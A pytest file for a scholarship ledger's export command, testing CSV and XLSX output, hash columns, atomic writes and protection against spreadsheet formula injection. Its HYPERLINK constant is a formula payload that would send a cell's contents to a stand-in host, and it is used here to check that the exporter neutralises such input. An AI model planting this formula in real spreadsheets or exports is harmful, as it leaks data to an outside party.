"""`beasiswa ledger export`: the whole journal with its hashes and canonical bytes, CSV or XLSX; text that a
spreadsheet would run as a formula is escaped, amounts stay numbers; nothing half-written on failure."""

import csv
import io

import attrs
import openpyxl
import pytest

from beasiswa.db import make_engine
from beasiswa.ledger import verify
from beasiswa.ledger.canonical import FIELDS
from beasiswa.ledger.export import (
    EXPORT_COLUMNS,
    OutputError,
    atomic_path,
    escape_cell,
    journal_rows,
    write_csv,
    write_xlsx,
)
from audit_support import run, three_months
from ledger_support import APPROVER, approved, case, child, claim, database, ledger, sql  # noqa: F401

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize("text", [HYPERLINK, "+62 812", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_single_quote(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Siti Aminah", "KC-PLG-2025-000123", "", " =spasi dulu", -3_000_000, 0, None])
def test_other_text_and_every_number_stay_as_they_are(value):
    assert escape_cell(value) == value


# A case whose ids and whose reversal's reason and actors begin with formula characters.
HOSTILE = attrs.evolve(case(children=[child("=anak-1")], claims=[claim("@klaim-1", "=anak-1")]),
                       case_id="+KC-PLG-2025-000999")


def hostile_journal(url):
    service = ledger(url)
    service.register(HOSTILE, approved(HOSTILE), maker="-pembuat", approver=APPROVER)
    paid = service.pay(HOSTILE.case_id, "@klaim-1", maker="-pembuat", approver=APPROVER).entry
    service.reverse(paid.seq, reason=HYPERLINK, maker="-pembuat", approver=APPROVER)
    service.engine.dispose()


def test_csv_export_holds_every_entry_with_hashes_and_canonical_bytes_and_escapes_formulas(database):
    hostile_journal(database)
    result = run("ledger", "export", "--format", "csv", "--db", database)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == list(EXPORT_COLUMNS)
    stored = sql(database, "SELECT * FROM journal ORDER BY seq")
    assert len(rows) == 1 + len(stored) == 3
    column = {name: i for i, name in enumerate(EXPORT_COLUMNS)}
    reversal = rows[2]
    assert reversal[column["reason"]] == "'" + HYPERLINK
    assert reversal[column["case_id"]] == "'+KC-PLG-2025-000999"
    assert (reversal[column["child_id"]], reversal[column["claim_id"]]) == ("'=anak-1", "'@klaim-1")
    assert reversal[column["maker"]] == "'-pembuat"
    assert [r[column["amount"]] for r in rows[1:]] == ["3000000", "-3000000"]
    for row, entry in zip(rows[1:], stored):
        assert row[column["hash"]] == entry.hash and row[column["prev_hash"]] == entry.prev_hash
        assert row[column["canonical"]].encode("utf-8") == bytes(entry.canonical)


def test_csv_numbers_are_bare_and_text_is_quoted(database):
    hostile_journal(database)
    line = run("ledger", "export", "--db", database).stdout.splitlines()[2]
    assert line.startswith('2,"reversal:1","\'+KC-PLG-2025-000999","\'=anak-1","\'@klaim-1","SMA","SMA",'
                           '"2025/2026","KC-PLG",-3000000,"reversal","ledger",1,"\'-pembuat",')


def test_xlsx_export_has_numeric_amounts_and_no_formula_anywhere(database, tmp_path):
    hostile_journal(database)
    out = tmp_path / "jurnal.xlsx"
    result = run("ledger", "export", "--format", "xlsx", "--out", str(out), "--db", database)
    assert result.exit_code == 0, result.output
    head = verify(make_engine(database)).head_hash
    assert result.stdout == f"2 entri ditulis ke {out}; ujung jurnal: seq 2, hash {head} " \
                            f"(tidak diverifikasi; jalankan `beasiswa ledger verify`)\n"
    sheet = openpyxl.load_workbook(out)["journal"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(EXPORT_COLUMNS)
    amount = EXPORT_COLUMNS.index("amount")
    assert [(r[amount].value, r[amount].data_type) for r in rows[1:]] == [(3_000_000, "n"), (-3_000_000, "n")]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert rows[2][EXPORT_COLUMNS.index("reason")].value == "'" + HYPERLINK


def test_the_export_is_read_in_seq_order_up_to_the_head_it_was_asked_for(database):
    three_months(database)
    engine = make_engine(database)
    rows = list(journal_rows(engine, up_to_seq=3, batch=2))
    engine.dispose()
    assert [r[0] for r in rows] == [1, 2, 3]
    assert [r[FIELDS.index("kind")] for r in rows] == ["payout"] * 3


def test_a_file_that_fails_while_written_leaves_neither_the_file_nor_its_temporary(tmp_path):
    target = tmp_path / "jurnal.csv"

    def rows():
        yield (1, "a")
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        with atomic_path(target) as temp, temp.open("w", newline="") as stream:
            write_csv(stream, ("seq", "x"), rows())
    assert list(tmp_path.iterdir()) == []


def test_an_existing_file_is_replaced_only_once_the_new_one_is_complete(tmp_path):
    target = tmp_path / "jurnal.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(ValueError):
        with atomic_path(target) as temp:
            write_xlsx(temp, "journal", ("seq",), [(1,)])
            raise ValueError("stop")
    assert target.read_bytes() == b"old"
    with atomic_path(target) as temp:
        write_xlsx(temp, "journal", ("seq",), [(1,), (2,)])
    assert [c.value for (c,) in openpyxl.load_workbook(target)["journal"].iter_rows()] == ["seq", 1, 2]


def test_control_characters_an_xlsx_cell_cannot_hold_are_shown_escaped(tmp_path):
    target = tmp_path / "x.xlsx"
    write_xlsx(target, "journal", ("reason",), [("salah\x01ketik",)])
    assert openpyxl.load_workbook(target)["journal"]["A2"].value == "salah\\x01ketik"


@pytest.mark.parametrize("where, message", [
    ("missing/jurnal.csv", "tidak dapat ditulis: folder"),
    (".", "adalah folder, bukan berkas"),
])
def test_an_output_that_cannot_be_written_is_refused_with_status_2_before_anything_is_read(tmp_path, where,
                                                                                           message):
    out = tmp_path / where
    result = run("ledger", "export", "--out", str(out), "--db", f"sqlite:///{tmp_path / 'none.db'}")
    assert result.exit_code == 2
    assert f"--out: '{out}'" in result.stderr and message in result.stderr
    with pytest.raises(OutputError):
        with atomic_path(out):
            pass
